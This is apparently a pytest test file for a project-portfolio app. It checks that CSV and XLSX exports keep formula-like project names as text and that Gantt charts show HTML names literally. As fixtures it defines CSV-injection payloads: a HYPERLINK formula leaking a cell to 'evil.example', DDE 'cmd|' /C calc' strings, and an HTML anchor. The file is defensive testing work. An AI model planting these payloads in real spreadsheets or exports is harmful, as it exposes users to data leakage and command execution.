"""Text a user typed never becomes a formula in an export or markup in a chart (issue 18, items 3).

An owner (or a file) can name a project "=HYPERLINK(…)"; finance downloads the schedule, the slippage report,
the annual plan, the template and the history: every such cell is text (CSV: a leading ', OWASP; XLSX: a
string cell, no <f> anywhere). A project named <a href="http://x">x</a> is shown literally by the charts.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile

import openpyxl
import pytest

from tests.api.conftest import csv_bytes, flat_budget, project_row, wait_for_run

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'
RISKY_NAMES = {
    "H-01": HYPERLINK,
    "H-02": "+cmd|' /C calc'!A0",
    "H-03": "@SUM(1+1)*cmd|' /C calc'!A0",
    "H-04": '<a href="http://x">x</a>',
}
RISKY_UNIT = "-2+3+cmd|' /C calc'!A0"
TAB_NAME = "\t=1+1"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile_run(client, finance):
    """A portfolio whose names and units start like formulas or hold HTML, and a finished run of it."""
    pid = client.post("/api/portfolios", json={"name": "恶意名称"}, headers=finance).json()["id"]
    rows = [
        project_row(code, name=name, responsible_unit=RISKY_UNIT if code == "H-02" else "县教委")
        for code, name in RISKY_NAMES.items()
    ]
    files = {"file": ("projects.csv", csv_bytes(rows), "text/csv")}
    assert client.post(f"/api/portfolios/{pid}/import", files=files, headers=finance).status_code == 201
    listed = client.get(f"/api/portfolios/{pid}/projects", headers=finance).json()
    h01 = next(p for p in listed if p["code"] == "H-01")
    # a leading TAB cannot come through a file (cells are stripped) but can through an edit
    edited = client.patch(
        f"/api/projects/{h01['id']}", json={"version": h01["version"], "location": TAB_NAME}, headers=finance
    )
    assert edited.status_code == 200, edited.text
    body = {
        "name": "每年5000万",
        "first_year": 2022,
        "last_year": 2026,
        "budget": flat_budget(2022, 2026, 5000),
    }
    sid = client.post(f"/api/portfolios/{pid}/scenarios", json=body, headers=finance).json()["id"]
    run = client.post(f"/api/scenarios/{sid}/runs", headers=finance).json()
    return {"portfolio": pid, "run": wait_for_run(client, run["id"], finance, {"done"})}


def _sheets_xml(content: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        return {n: book.read(n).decode("utf-8") for n in book.namelist() if n.startswith("xl/worksheets/")}


def _assert_no_formula(content: bytes, *expected_texts: str) -> None:
    """No cell of any sheet is a formula, and each expected text is in some cell, as a string."""
    sheets = _sheets_xml(content)
    assert sheets
    for name, xml in sheets.items():
        assert "<f>" not in xml and "<f " not in xml, f"{name} holds a formula"
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = {c.value: c for ws in book for row in ws.iter_rows() for c in row if c.value is not None}
    for text in expected_texts:
        assert text in cells, f"{text!r} is not a cell of the workbook"
        assert cells[text].data_type == "s"
        assert cells[text].quotePrefix, "Excel would read it as a formula once edited"


def _csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def _assert_csv_safe(content: bytes, *expected_texts: str) -> None:
    cells = _csv_cells(content)
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)], "a CSV cell starts like a formula"
    for text in expected_texts:
        assert "'" + text in cells


def test_schedule_exports_hold_formula_like_names_as_text(client, viewer, hostile_run):
    rid = hostile_run["run"]["id"]
    xlsx = client.get(f"/api/runs/{rid}/schedule.xlsx", headers=viewer)
    assert xlsx.status_code == 200
    _assert_no_formula(xlsx.content, HYPERLINK, RISKY_NAMES["H-02"], RISKY_NAMES["H-03"])
    table = client.get(f"/api/runs/{rid}/schedule.csv", headers=viewer)
    assert table.status_code == 200
    _assert_csv_safe(table.content, HYPERLINK, RISKY_NAMES["H-02"], RISKY_NAMES["H-03"])


def test_slippage_report_holds_formula_like_names_and_units_as_text(client, viewer, hostile_run):
    rid = hostile_run["run"]["id"]
    xlsx = client.get(f"/api/runs/{rid}/slippage.xlsx", headers=viewer)
    assert xlsx.status_code == 200
    _assert_no_formula(xlsx.content, HYPERLINK, RISKY_UNIT)
    table = client.get(f"/api/runs/{rid}/slippage.csv", headers=viewer)
    assert table.status_code == 200
    _assert_csv_safe(table.content, HYPERLINK, RISKY_UNIT)


def test_annual_plan_template_and_history_hold_no_formula(client, finance, hostile_run):
    rid, pid = hostile_run["run"]["id"], hostile_run["portfolio"]
    plan = client.get(f"/api/runs/{rid}/annual-plan.xlsx?year=2023", headers=finance)
    assert plan.status_code == 200, plan.text
    _assert_no_formula(plan.content, HYPERLINK)
    template = client.get(f"/api/portfolios/{pid}/template.xlsx", headers=finance)
    assert template.status_code == 200
    _assert_no_formula(
        template.content, HYPERLINK, RISKY_UNIT, TAB_NAME
    )  # the unit is in the dropdown list too
    history = client.get(f"/api/audit.xlsx?portfolio={pid}", headers=finance)
    assert history.status_code == 200
    _assert_no_formula(history.content, TAB_NAME)


def test_numbers_in_exports_stay_numbers(client, viewer, hostile_run):
    rid = hostile_run["run"]["id"]
    book = openpyxl.load_workbook(
        io.BytesIO(client.get(f"/api/runs/{rid}/schedule.xlsx", headers=viewer).content)
    )
    costs = [c for ws in book for row in ws.iter_rows() for c in row if c.value == 3000]
    assert costs and all(c.data_type == "n" for c in costs)


def _strings(value):
    """Every string inside a JSON value."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from _strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from _strings(item)


def test_chart_shows_an_html_name_literally_with_no_link(client, viewer, hostile_run):
    rid = hostile_run["run"]["id"]
    chart = client.get(f"/api/runs/{rid}/gantt.json", headers=viewer)
    assert chart.status_code == 200
    texts = list(_strings(chart.json()))
    assert not [s for s in texts if re.search(r"<a[\s>]", s)], "a name became a link"
    # plotly shows &lt; &gt; as the characters themselves: the name reads as typed
    assert any('&lt;a href="http://x"&gt;x&lt;/a&gt;' in s for s in texts)
    page = client.get(f"/api/runs/{rid}/gantt.html", headers=viewer).text
    assert "\\u003ca href" not in page  # the figure's JSON as plotly writes it into the page
    assert "&lt;a href=" in page
